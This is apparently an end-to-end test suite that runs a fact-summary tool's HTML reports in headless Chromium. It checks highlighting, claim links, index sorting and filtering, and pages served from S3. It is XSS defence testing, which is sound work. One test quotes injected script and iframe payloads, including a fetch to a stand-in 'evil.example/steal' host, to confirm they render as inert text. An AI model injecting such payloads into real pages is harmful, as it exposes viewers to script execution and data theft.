// biome-ignore-all lint/performance/useDomNodeTextContent: Playwright's innerText is what the reader sees (rendered text), which these tests mean to check.
/**
 * The HTML reports in a real browser: Debian's Chromium driven by playwright-core. Pages come
 * from the real pipeline: `factsum analyze --html` over examples/ (plus a hostile article), and the real
 * processArticle and api handlers writing to and reading from s3rver. Screenshots of every page opened go
 * to test-results/screenshots/. Without Chromium the suite is skipped, saying so.
 */
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { localHandlerEnv, provisionLocalStore } from '../../infra/local/local-store';
import {
  LOCAL_REGION,
  type LocalDynamo,
  type LocalS3,
  startLocalDynamo,
  startLocalS3,
} from '../../infra/local/servers';
import { parseReportResult, type ReportResult } from '../../lib/report/report-schema';
import { HALVARD_AGREES, HALVARD_CONFLICTS, HALVARD_FIRST } from '../fixtures/claims-corpus-articles';
import { HOSTILE_ARTICLE, HOSTILE_TITLE } from '../fixtures/hostile-article';
import { lambdaContext } from '../fixtures/lambda-context';

/** Debian's package installs it here; FACTSUM_CHROMIUM points elsewhere. */
const CHROMIUM = process.env.FACTSUM_CHROMIUM ?? '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium) {
  console.log(
    `reports e2e: no Chromium at ${CHROMIUM}; skipping the browser tests (apt-get install chromium, or set FACTSUM_CHROMIUM)`,
  );
}

/** The flags the issue asks for: a quiet, sandbox-free headless browser that phones nowhere. */
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

const SCREENSHOT_DIR = resolve('test-results/screenshots');

/** The examples in upload order: the original budget story before its byte-for-byte copy. */
const EXAMPLES = [
  'city-budget.txt',
  'city-budget-copy.txt',
  'harbour-bridge.html',
  'river-survey.md',
  'vaccine-trial.json',
  'syndicated-wind-farm.txt',
];

/** The summary highlight of report-page.ts (#fff1a8) as Chromium reports computed colours. */
const SUMMARY_BACKGROUND = 'rgb(255, 241, 168)';

let context: BrowserContext | undefined;
let workDir = '';
let reportsDir = '';
/** CLI results by file name, in the order the CLI printed them. */
const cliResults = new Map<string, ReportResult>();

function browser(): BrowserContext {
  if (!context) throw new Error('Chromium did not start');
  return context;
}

/** Closes the browser once; later calls do nothing. */
async function closeBrowser(): Promise<void> {
  const open = context;
  context = undefined;
  await open?.close();
}

/** A page opened fresh, with every request, dialog, page error and console error it caused. */
type OpenedPage = {
  readonly page: Page;
  readonly url: string;
  readonly requests: string[];
  readonly dialogs: string[];
  readonly errors: string[];
  readonly contentType: string | undefined;
};

/** Opens `url` in a new tab, records what it does, and saves a full-page screenshot as `<name>.png`. */
async function openPage(url: string, name: string): Promise<OpenedPage> {
  const page = await browser().newPage();
  const requests: string[] = [];
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text());
  });
  const response = await page.goto(url, { waitUntil: 'load' });
  await page.screenshot({ path: join(SCREENSHOT_DIR, `${name}.png`), fullPage: true });
  return { page, url, requests, dialogs, errors, contentType: response?.headers()['content-type'] };
}

/** The file URL of a page the CLI wrote. */
function reportUrl(fileName: string): string {
  return pathToFileURL(join(reportsDir, fileName)).href;
}

function cliResult(fileName: string): ReportResult {
  const result = cliResults.get(fileName);
  if (result === undefined) throw new Error(`the CLI printed no result for ${fileName}`);
  return result;
}

/** The joined text of the segments whose `attribute` lists `n`, in document order. */
async function markedText(page: Page, attribute: 'data-summary' | 'data-claims', n: number): Promise<string> {
  const texts = await page.locator(`#article-text [${attribute}~="${n}"]`).allTextContents();
  return texts.join('');
}

/** A computed style property of the first element matching `selector`. */
async function computedStyle(page: Page, selector: string, property: string): Promise<string> {
  const value: unknown = await page.evaluate(
    `getComputedStyle(document.querySelector(${JSON.stringify(selector)})).getPropertyValue(${JSON.stringify(property)})`,
  );
  return z.string().parse(value);
}

/** What the payloads of the hostile article set when they run; undefined while none has. */
async function pwned(page: Page): Promise<unknown> {
  return page.evaluate('window.__pwned');
}

/** The values of `attribute` of the visible index rows, top to bottom. */
async function visibleRows(page: Page, attribute: string): Promise<(string | null)[]> {
  const rows = page.locator('#corpus tbody tr:visible');
  const values: (string | null)[] = [];
  for (let i = 0; i < (await rows.count()); i++) values.push(await rows.nth(i).getAttribute(attribute));
  return values;
}

/** Asserts that a report page is readable and inert: rendered, no requests but its own, nothing ran. */
function expectInert(opened: OpenedPage): void {
  expect(opened.requests).toEqual([opened.url]);
  expect(opened.dialogs).toEqual([]);
  expect(opened.errors).toEqual([]);
}

describe.skipIf(!hasChromium)('HTML reports in headless Chromium', () => {
  beforeAll(async () => {
    workDir = mkdtempSync(join(tmpdir(), 'factsum-reports-'));
    reportsDir = join(workDir, 'reports');
    mkdirSync(SCREENSHOT_DIR, { recursive: true });
    const hostile = join(workDir, 'hostile.txt');
    writeFileSync(hostile, HOSTILE_ARTICLE);

    // The CLI, as a user runs it: one JSON line per file on stdout, the pages in --html's folder.
    const run = spawnSync(
      process.execPath,
      [
        'bin/factsum.cjs',
        'analyze',
        '--corpus',
        '--html',
        reportsDir,
        ...EXAMPLES.map((name) => join('examples', name)),
        hostile,
      ],
      { encoding: 'utf8' },
    );
    if (run.status !== 0) throw new Error(`factsum analyze failed (${run.status}): ${run.stderr}`);
    for (const line of run.stdout.trim().split('\n')) {
      const result = parseReportResult(JSON.parse(line));
      const path = result?.source.path;
      if (result === undefined || path === undefined)
        throw new Error(`not a result line: ${line.slice(0, 200)}`);
      cliResults.set(path.split('/').at(-1) ?? path, result);
    }

    context = await chromium.launchPersistentContext(join(workDir, 'chromium-profile'), {
      executablePath: CHROMIUM,
      headless: true,
      args: CHROMIUM_ARGS,
      viewport: { width: 1280, height: 900 },
    });
  });

  afterAll(async () => {
    await closeBrowser();
    if (workDir) rmSync(workDir, { recursive: true, force: true });
  });

  describe('pages written by factsum analyze --html', () => {
    it.each(EXAMPLES.filter((name) => name !== 'city-budget-copy.txt'))(
      '%s: the summary is highlighted and every claim underlined at its offsets, with no request',
      async (name) => {
        // Prepare
        const result = cliResult(name);
        expect(result.status).toBe('processed');
        const sentences = result.summary?.sentences ?? [];
        const claims = result.claims ?? [];
        expect(sentences.length).toBeGreaterThan(0);
        expect(claims.length).toBeGreaterThan(0);

        // Act
        const opened = await openPage(reportUrl(`${name}.html`), `example-${name}`);
        const { page } = opened;

        // Assess: the title, the marks at the result's offsets, their look, and a quiet page.
        expect(await page.locator('h1').innerText()).toBe(result.article?.title);
        for (const [i, sentence] of sentences.entries()) {
          expect(await markedText(page, 'data-summary', i + 1)).toBe(sentence.text);
        }
        for (const [i, claim] of claims.entries()) {
          expect(await markedText(page, 'data-claims', i + 1)).toBe(claim.text);
        }
        await expect(page.locator('#article-text [data-summary]').first().isVisible()).resolves.toBe(true);
        expect(await computedStyle(page, '#article-text [data-summary]', 'background-color')).toBe(
          SUMMARY_BACKGROUND,
        );
        expect(await computedStyle(page, '#article-text [data-claims]', 'text-decoration-line')).toContain(
          'underline',
        );
        expect(await page.locator('ol.claims > li').count()).toBe(claims.length);
        expectInert(opened);
        await page.close();
      },
    );

    it('takes the reader from a claim in the text to its details: types, score, numbers, dates', async () => {
      const result = cliResult('city-budget.txt');
      const claim = result.claims?.[0];
      if (claim === undefined) throw new Error('city-budget.txt has no claims');
      const { page } = await openPage(reportUrl('city-budget.txt.html'), 'claim-details');

      // Act: follow the number after the first claim.
      await page.locator('#article-text a[data-claim-ref="1"]').click();

      // Assess
      expect(page.url()).toMatch(/#claim-1$/);
      const details = page.locator('#claim-1');
      expect(await details.isVisible()).toBe(true);
      const shown = await details.innerText();
      for (const type of claim.types) expect(shown).toContain(type);
      expect(shown).toContain(`score ${claim.score.toFixed(3)}`);
      expect(shown).toContain('£412 million → 412,000,000 GBP');
      expect(shown).toMatch(/on Wednesday → \d{4}-\d{2}-\d{2} \(from \d{4}-\d{2}-\d{2}, uploaded\)/);
      expect(shown).toContain('Millbrook City Council');
      await page.screenshot({ path: join(SCREENSHOT_DIR, 'claim-details-target.png') });
      await page.close();
    });

    it('names the canonical of a duplicate with its similarity, and links to its report', async () => {
      const opened = await openPage(reportUrl('city-budget-copy.txt.html'), 'duplicate');
      const { page } = opened;
      const note = await page.locator('#duplicate').innerText();

      expect(note).toContain('exact duplicate of examples/city-budget.txt');
      expect(note).toContain('similarity 1.000');
      expect(await page.locator('#claims').count()).toBe(0);
      expectInert(opened);

      await page.locator('#duplicate a').click();
      await page.waitForURL(/city-budget\.txt\.html$/);
      expect(await page.locator('[data-status="processed"]').count()).toBe(1);
      await page.close();
    });

    it('shows a hostile title and body as text: nothing runs, nothing is fetched', async () => {
      const opened = await openPage(reportUrl('hostile.txt.html'), 'hostile-article');
      const { page } = opened;

      expect(await page.locator('h1').innerText()).toBe(HOSTILE_TITLE);
      expect(await page.title()).toContain("<script>window.__pwned = 'title'</script>");
      const text = await page.locator('#article-text').innerText();
      expect(text).toContain("<script>window.__pwned = 'body'; fetch('https://evil.example/steal')</script>");
      expect(text).toContain('<iframe src="https://evil.example/frame"></iframe>');
      expect(await page.locator('main img, main iframe, main b, main script').count()).toBe(0);
      // The claims carrying markup are underlined like any other.
      expect(await page.locator('#article-text [data-claims]').count()).toBeGreaterThan(0);
      expect(await pwned(page)).toBeUndefined();
      expectInert(opened);
      await page.close();
    });

    it('sorts and filters the corpus index in the page', async () => {
      const opened = await openPage(reportUrl('index.html'), 'index');
      const { page } = opened;
      const all = EXAMPLES.length + 1;

      // The script ran (CSP allowed it by hash) and showed the controls.
      expect(await page.locator('#filters').isVisible()).toBe(true);
      expect(await visibleRows(page, 'data-claims')).toHaveLength(all);

      // Sort by claims, ascending then descending.
      await page.locator('th[data-sort-key="claims"] button').click();
      const ascending = (await visibleRows(page, 'data-claims')).map(Number);
      expect(ascending).toEqual([...ascending].sort((a, b) => a - b));
      expect(await page.locator('th[data-sort-key="claims"]').getAttribute('aria-sort')).toBe('ascending');
      await page.locator('th[data-sort-key="claims"] button').click();
      const descending = (await visibleRows(page, 'data-claims')).map(Number);
      expect(descending).toEqual([...ascending].reverse());
      await page.screenshot({ path: join(SCREENSHOT_DIR, 'index-sorted-by-claims.png'), fullPage: true });

      // Sort by title.
      await page.locator('th[data-sort-key="sortTitle"] button').click();
      const titles = await visibleRows(page, 'data-sort-title');
      expect(titles).toEqual([...titles].sort());

      // Filter by text, then by status.
      await page.locator('#filter-text').fill('harbour');
      expect(await visibleRows(page, 'data-id')).toEqual(['examples/harbour-bridge.html']);
      expect(await page.locator('#shown-count').innerText()).toBe('1');
      await page.locator('#filter-text').fill('');
      await page.locator('#filter-status').selectOption('duplicate');
      expect(await visibleRows(page, 'data-id')).toEqual(['examples/city-budget-copy.txt']);
      await page.screenshot({ path: join(SCREENSHOT_DIR, 'index-filtered-duplicates.png'), fullPage: true });
      await page.locator('#filter-status').selectOption('');
      expect(await visibleRows(page, 'data-id')).toHaveLength(all);

      // The duplicate cluster, the hostile title as text, and no network request on the way.
      expect(await page.locator('#clusters').innerText()).toContain('examples/city-budget-copy.txt');
      expect(await page.locator('#corpus').innerText()).toContain(HOSTILE_TITLE);
      expect(await pwned(page)).toBeUndefined();
      expectInert(opened);
      await page.close();
    });
  });

  describe('pages written by the processArticle handler to s3rver, and GET / of the api handler', () => {
    let s3Server: LocalS3 | undefined;
    let dynamoServer: LocalDynamo | undefined;
    let s3: S3Client;
    const suffix = randomUUID().slice(0, 8);
    const inputBucket = `articles-${suffix}`;
    const resultsBucket = `results-${suffix}`;

    /** The URL of an object of the results bucket, as a browser GETs it from s3rver (no credentials). */
    function s3Url(key: string): string {
      const endpoint = s3Server?.endpoint ?? '';
      return `${endpoint}/${resultsBucket}/${key.split('/').map(encodeURIComponent).join('/')}`;
    }

    beforeAll(async () => {
      // Prepare: the emulators on free ports, and the handlers' environment pointing at them.
      s3Server = await startLocalS3({ port: 0, directory: join(workDir, 's3'), buckets: [] });
      dynamoServer = await startLocalDynamo({ port: 0 });
      const store = {
        s3Endpoint: s3Server.endpoint,
        dynamoEndpoint: dynamoServer.endpoint,
        inputBucket,
        resultsBucket,
        indexTable: `index-${suffix}`,
      };
      Object.assign(process.env, localHandlerEnv(store));
      ({ s3 } = await provisionLocalStore(store));

      // Act: three articles about the same job cuts (two agree, one conflicts) and the hostile one, a day
      // apart, each delivered to the real handler as S3 would deliver it.
      const { handler } = await import('../../functions/process-article');
      const uploads: [string, string][] = [
        ['halvard/first.txt', HALVARD_FIRST],
        ['halvard/agrees.txt', HALVARD_AGREES],
        ['halvard/conflicts.txt', HALVARD_CONFLICTS],
        ['hostile.txt', HOSTILE_ARTICLE],
      ];
      for (const [day, [key, body]] of uploads.entries()) {
        const put = await s3.send(
          new PutObjectCommand({
            Bucket: inputBucket,
            Key: key,
            Body: body,
            ContentType: 'text/plain; charset=utf-8',
          }),
        );
        const eventTime = new Date(Date.UTC(2026, 2, 9 + day, 8)).toISOString();
        await handler(
          s3Event(inputBucket, key, (put.ETag ?? '').replace(/"/g, ''), eventTime),
          lambdaContext(),
        );
      }
    });

    afterAll(async () => {
      // The browser and the SDK keep connections to s3rver alive, and its close() waits for them.
      await closeBrowser();
      s3.destroy();
      await s3Server?.close();
      await dynamoServer?.close();
    });

    it('serves each <key>.html as HTML and links conflicting claims to the other report', async () => {
      const opened = await openPage(s3Url('halvard/conflicts.txt.html'), 's3-halvard-conflicts');
      const { page } = opened;

      expect(opened.contentType).toBe('text/html; charset=utf-8');
      expect(await page.locator('h1').innerText()).toBe('Halvard Shipping disputes redundancy figures');
      const conflict = page
        .locator('[data-relation="conflicts"]')
        .filter({ hasText: `${inputBucket}/halvard/first.txt` });
      expect(await conflict.innerText()).toContain('Halvard Shipping will cut 420 jobs');
      expectInert(opened);

      // Following the link opens the first article's report, at the claim it conflicts with.
      await conflict.locator('a').click();
      await page.waitForURL(/\/halvard\/first\.txt\.html#claim-\d+$/);
      const target = page.locator('ol.claims > li:target');
      expect(await target.innerText()).toContain('420 jobs');
      // The mirrored link: the earlier report was rewritten with the later conflict.
      expect(await target.locator('[data-relation="conflicts"]').innerText()).toContain('260 jobs');
      await page.screenshot({ path: join(SCREENSHOT_DIR, 's3-halvard-first-target.png'), fullPage: true });
      await page.close();
    });

    it('keeps a hostile article inert when its report is served from the bucket', async () => {
      const opened = await openPage(s3Url('hostile.txt.html'), 's3-hostile');
      const { page } = opened;

      expect(await page.locator('h1').innerText()).toBe(HOSTILE_TITLE);
      expect(await page.locator('main img, main iframe, main script').count()).toBe(0);
      expect(await pwned(page)).toBeUndefined();
      expectInert(opened);
      await page.close();
    });

    it('GET / renders the corpus index over the results bucket, with the conflicts across articles', async () => {
      // Act: the api handler as API Gateway calls it; the page is saved and opened from disk.
      const { handler } = await import('../../functions/api');
      const response = apiResponseSchema.parse(
        await handler(getRootEvent(), lambdaContext('factsum-dev-api')),
      );
      expect(response.statusCode).toBe(200);
      expect(response.headers?.['content-type']).toBe('text/html; charset=utf-8');
      const file = join(workDir, 'api-index.html');
      writeFileSync(file, response.body);
      const opened = await openPage(pathToFileURL(file).href, 's3-api-index');
      const { page } = opened;

      // Assess
      expect(await visibleRows(page, 'data-id')).toEqual([
        `${inputBucket}/halvard/first.txt`,
        `${inputBucket}/halvard/agrees.txt`,
        `${inputBucket}/halvard/conflicts.txt`,
        `${inputBucket}/hostile.txt`,
      ]);
      const conflicts = await page.locator('#conflicts li.conflict').allInnerTexts();
      expect(conflicts).toHaveLength(2);
      expect(conflicts.every((text) => text.includes('260 jobs') && text.includes('420 jobs'))).toBe(true);
      expect(await pwned(page)).toBeUndefined();
      expectInert(opened);

      // A row links to the report in the bucket.
      await page.locator(`tr[data-id="${inputBucket}/halvard/agrees.txt"] a`).first().click();
      await page.waitForURL(s3Url('halvard/agrees.txt.html'));
      expect(await page.locator('h1').innerText()).toBe('Union vows to fight Brennport redundancies');
      await page.close();
    });
  });
});

/** What the api handler answers (a structured API Gateway result), checked rather than cast. */
const apiResponseSchema = z.object({
  statusCode: z.number(),
  headers: z.record(z.string(), z.union([z.string(), z.number(), z.boolean()])).optional(),
  body: z.string(),
});

/** An S3 ObjectCreated notification for one object, its key encoded as S3 encodes it. */
function s3Event(bucket: string, key: string, etag: string, eventTime: string): unknown {
  const encoded = key
    .split('/')
    .map((part) => encodeURIComponent(part).replace(/%20/g, '+'))
    .join('/');
  return {
    Records: [
      {
        eventVersion: '2.1',
        eventSource: 'aws:s3',
        awsRegion: LOCAL_REGION,
        eventTime,
        eventName: 'ObjectCreated:Put',
        s3: {
          s3SchemaVersion: '1.0',
          configurationId: 'factsum-processArticle',
          bucket: { name: bucket, arn: `arn:aws:s3:::${bucket}` },
          object: { key: encoded, eTag: etag, sequencer: '0055AED6DCD90281E5' },
        },
      },
    ],
  };
}

/** GET / as an HTTP API (payload 2.0) event. */
function getRootEvent(): APIGatewayProxyEventV2 {
  const time = Date.UTC(2026, 2, 14, 9, 30);
  return {
    version: '2.0',
    routeKey: 'GET /',
    rawPath: '/',
    rawQueryString: '',
    headers: { host: '127.0.0.1:3000', accept: 'text/html' },
    isBase64Encoded: false,
    requestContext: {
      accountId: '123456789012',
      apiId: 'local',
      domainName: '127.0.0.1',
      domainPrefix: '127',
      requestId: randomUUID(),
      routeKey: 'GET /',
      stage: '$default',
      time: new Date(time).toISOString(),
      timeEpoch: time,
      http: {
        method: 'GET',
        path: '/',
        protocol: 'HTTP/1.1',
        sourceIp: '127.0.0.1',
        userAgent: 'reports-e2e',
      },
    },
  };
}
